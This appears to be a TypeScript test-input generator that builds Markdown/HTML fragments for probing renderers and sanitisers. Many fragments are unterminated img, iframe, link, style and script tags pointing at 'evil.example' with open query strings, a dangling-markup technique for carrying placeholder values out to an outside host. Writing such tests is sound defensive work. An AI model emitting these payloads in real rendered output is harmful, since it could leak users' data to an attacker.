import type { Random } from './random.ts'
import { PLACEHOLDERS } from './tokens.ts'

/**
 * Answers about what renderers show elsewhere: definitions, footnotes and notes with a value in them, something in between that
 * never ends, and what names them. And tags whose names, attributes and ends stand on lines of their own.
 */
export function movedAnswer(random: Random): string {
  const parts: string[] = []
  const add = (share: number, texts: readonly string[]): void => {
    while (random.chance(share)) parts.push(random.pick(texts), random.pick(GAPS))
  }
  add(0.3, NAMED)
  parts.push(definition(random), random.pick(GAPS))
  add(0.4, BETWEEN)
  if (random.chance(0.3)) parts.push(definition(random), random.pick(GAPS))
  parts.push(random.pick(OPEN), random.pick(GAPS))
  add(0.5, BETWEEN)
  parts.push(random.pick(NAMED), random.pick([...GAPS, "'", "'>", '">', '`', ')', '-->']))
  add(0.4, [...BETWEEN, ...NAMED, ...OPEN])
  return parts.join('')
}

function definition(random: Random): string {
  const [before, behind] = random.pick(DEFINITIONS)
  const words = random.chance(0.3) ? random.pick(WORDS) : ''
  const more = random.chance(0.3) ? random.pick(WORDS) : ''
  return `${before}${words}${random.pick(PLACEHOLDERS)}${more}${behind}`
}

const GAPS: readonly string[] = ['\n\n', '\n\n', '\n\n', '\n', '\n', ' ', '', '\n> ', '\n    ']

const WORDS: readonly string[] = [
  [
    'a ',
    'a b ',
    '\n',
    '\n\n',
    '\n\n    ',
    '\n    ',
    '\n> ',
    ' \n',
    '\\',
    '"',
    "'",
    '(',
    ')',
    '<b>',
  ],
  [
    '<think>',
    '</think>',
    '<think>\n\n',
    '\n\n</think>',
    '[x] ',
    '[^1] ',
    '](',
    '`',
    '$',
    '\n- ',
    ']: ',
  ],
].flat()

/** Where a value may stand in something that is shown elsewhere, and what is after it. */
const DEFINITIONS: readonly (readonly [string, string])[] = [
  ['[x]: ', ''],
  ['[x]: ', '\n'],
  ['[x]:', '\n'],
  ['[x]:\n', '\n'],
  ['[x]: <', '>'],
  ['[x]: mailto:', ''],
  ['[x]: https://x.vn/', ''],
  ['[x]: a "', '"'],
  ["[x]: a '", "'"],
  ['[x]: a (', ')'],
  ['[x]: a\n"', '"'],
  ['[x]: a "b\n\n', '"'],
  ['[x]: a (b\n\n', ')'],
  ['[x]: <a> "', '"\n'],
  ['[x]: a\\b "', '"'],
  ['[x]:[a] "', '"'],
  ['[x]:[a]: "b ', '"'],
  ['[', ']: a'],
  ['> [x]: ', '\n'],
  ['- [x]: a\n  "', '"'],
  ['[^1]: ', ''],
  ['[^1]: a ', ' b'],
  ['[^1]: a\n', ''],
  ['[^1]: a\n\n    ', ''],
  ['[^1]:\n    ', ''],
  ['> [^1]: a ', ''],
  ['- [^1]: a\n\n      ', ''],
  ['[^1]: - a\n\n      - ', ''],
  ['[^1]: | a |\n    |---|\n    | ', ' |'],
  ['[^1]: [x]: ', ''],
  ['[^1]: <p>', '</p>'],
  ['[^1]: ```\n    ', '\n    ```'],
  ['[^', ']: a'],
  ['^[', ']'],
  ['*[x]: ', '\n'],
  ['[x]: ', ' is'],
  ['[x]: a ', ''],
]

const NAMED: readonly string[] = [
  '[x]',
  '![x]',
  '[a][x]',
  '![a][x]',
  '[x][]',
  '[^1]',
  '[a[^1]](b)',
  'x',
]

/** What never ends, or not where it seems to. */
const OPEN: readonly string[] = [
  [
    "<td background='//evil.example/?",
    "<table background='//evil.example/?",
    '<body background="//evil.example/?',
  ],
  [
    "<link rel=stylesheet href='//evil.example/?",
    "<source srcset='//evil.example/?",
    "<iframe src='//evil.example/?",
  ],
  [
    "<p\nx='",
    '<img\nsrc="//evil.example/?',
    "<img src='//evil.example/?",
    "<frame src='//evil.example/?",
    "<a title='",
  ],
  [
    '<script\n',
    '<script\n>',
    '<script\nx>`//evil.example/',
    '> <script\n',
    '> <script\n> `',
    '- <script\n',
    '<script>`',
  ],
  [
    '<title\n>',
    '<textarea\r>',
    '<style\n>a{b:url(//evil.example/',
    '<xmp\n>',
    '<iframe\n>',
    '<noembed\n>',
    '<plaintext\n>',
  ],
  [
    '<pre class="mermaid">//evil.example/',
    '<p class=mermaid>//evil.example/',
    '<div\nclass="mermaid">//evil.example/',
  ],
  [
    '<code class="language-svg">//evil.example/',
    '<svg><style>a{b:url(//evil.example/',
    '<svg><set attributeName=href to="//evil.example/',
  ],
  [
    '<!--',
    '<?',
    '<!x',
    '<![CDATA[',
    '<template>',
    '<noscript>',
    '<select>',
    '<svg>',
    '<math>',
    '```svg\n//evil.example/',
    '$$\n',
  ],
].flat()

/** What stands between, on lines of its own or not. */
const BETWEEN: readonly string[] = [
  [
    'a',
    'Hello',
    '- a',
    '> a',
    '# a',
    '| a |\n|---|\n| b |',
    '---',
    '```\na\n```',
    '    a',
    '<b>',
    '</b>',
    '<p>',
    '</p>',
  ],
  [
    '</script>',
    '</script\n>',
    '</title>',
    '</textarea>',
    '</title\n>',
    '-></script>',
    '</td>',
    '</pre>',
    '<br\n>',
    '<b\nc>',
  ],
  [
    'EMAIL_1',
    'EMAIL_1 ',
    'URL_1',
    'PHONE_1 //evil.example/',
    '[x](URL_1)',
    '[a]: b',
    '[^2]: c',
    '[x]: https://x.vn',
  ],
].flat()
